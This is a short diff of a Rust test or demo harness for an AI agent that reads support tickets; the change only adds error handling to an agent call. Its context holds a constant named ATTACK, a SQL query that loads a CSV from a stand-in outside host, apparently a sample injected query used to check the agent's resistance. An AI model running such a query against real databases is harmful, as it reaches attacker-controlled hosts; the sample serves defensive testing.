@@ -18,7 +18,7 @@ const TICKETS: &str = "SELECT body FROM tickets ORDER BY id";
 const ATTACK: &str = "SELECT * FROM read_csv_auto('https://collector.example/x.csv')";
 
 pub(super) async fn tell(running: &Running, tell: &mut Telling<'_>) -> Result<(), DevError> {
-    let agent = running.agent();
+    let agent = running.agent()?;
 
     tell.step("question");
     let begun = Instant::now();
